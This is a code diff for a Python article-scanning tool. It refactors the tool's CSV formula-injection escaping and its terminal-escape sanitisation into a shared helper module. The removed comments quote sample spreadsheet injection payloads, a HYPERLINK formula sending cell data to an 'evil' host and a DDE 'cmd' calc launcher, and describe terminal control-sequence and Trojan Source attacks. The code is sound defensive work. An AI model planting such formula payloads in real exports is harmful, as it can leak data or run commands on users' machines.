@@ -16,6 +16,7 @@ from enum import StrEnum
 from typing import IO, Any, Generic, TypeVar
 
 from resolver.models import ArticleScan, Expansion, ScanFailure
+from resolver.safetext import spreadsheet_text, visible_escapes
 
 T = TypeVar("T")
 
@@ -130,21 +131,11 @@ def _write_json_array(scans: Iterator[ArticleScan], out: IO[str]) -> None:
     out.write("]\n" if first else "\n]\n")
 
 
-#: What a spreadsheet takes for the start of a formula (`=`, `+`, `-`, `@`, and a tab or
-#: carriage return before one). OWASP "CSV Injection": an anchor text such as
-#: `=HYPERLINK("http://evil/?"&A1)` or `=cmd|' /C calc'!A0` in a scanned page would otherwise run
-#: when the csv is opened in Excel or LibreOffice.
-_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
-
-
 def _cell(value: str) -> str:
-    """A free-text cell (article name, author, tweet or anchor text) a spreadsheet shows as text:
-    a leading `'` before a formula start. A lone `-` (stdin) is text already and stays as is.
+    """A free-text cell (article name, author, tweet or anchor text) a spreadsheet shows as text.
     URLs, hosts and handles need nothing: the scan only reports http(s) URLs, and hosts and
-    handles cannot start with these characters. JSON and JSON Lines carry the text untouched."""
-    if len(value) > 1 and value.startswith(_FORMULA_START):
-        return "'" + value
-    return value
+    handles cannot start like a formula."""
+    return spreadsheet_text(value)
 
 
 def _csv_rows(scan: ArticleScan) -> Iterator[list[Any]]:
@@ -197,20 +188,12 @@ def _blank(value: object) -> object:
     return "" if value is None else value
 
 
-#: Characters that must not reach a terminal as they are: C0 and C1 controls and DEL (ESC
-#: starts the sequences that move the cursor, clear the screen, set the window title or,
-#: with OSC 52, the clipboard; rich passes ESC through) and the bidirectional overrides and
-#: isolates that make a terminal show text in another order than it is (CVE-2021-42574,
-#: "Trojan Source"). All of them can sit in a scanned page's text, its URLs or a file name.
-_UNSAFE = re.compile("[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
-
-
 def _inert(text: str) -> str:
-    """`text` safe to print on a terminal: each unsafe character as its escape (`\\x1b`,
-    `\\u202e`), visible and inert, and then rich markup escaped (`[bold]` in a page stays text)."""
+    """`text` safe to print on a terminal: unsafe characters as visible escapes
+    (`safetext.visible_escapes`), then rich markup escaped (`[bold]` in a page stays text)."""
     from rich.markup import escape
 
-    return escape(_UNSAFE.sub(lambda m: m.group().encode("unicode_escape").decode("ascii"), text))
+    return escape(visible_escapes(text))
 
 
 def render_scan_table(scan: ArticleScan, console: Any) -> None:
